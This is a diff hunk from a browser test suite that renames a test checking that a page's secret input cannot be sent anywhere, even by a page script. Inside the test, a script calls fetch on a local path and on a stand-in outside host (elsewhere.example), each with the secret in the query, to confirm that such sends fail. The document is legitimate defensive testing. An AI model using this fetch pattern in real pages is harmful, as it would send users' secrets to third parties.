@@ -149,7 +149,7 @@ describe("the secret", { timeout: BROWSER_TIMEOUT_MS }, () => {
     expect(await page.getByLabel("Secret", { exact: true }).inputValue()).toBe("");
   });
 
-  test("could not even be sent by a script of the page", async () => {
+  test("cannot be sent anywhere, even by a script of the page", async () => {
     const { page } = await browser.open(url);
     const tries = await page.evaluate(async () => {
       const outcomes = await Promise.allSettled([fetch("/docs?secret"), fetch("https://elsewhere.example/?secret")]);
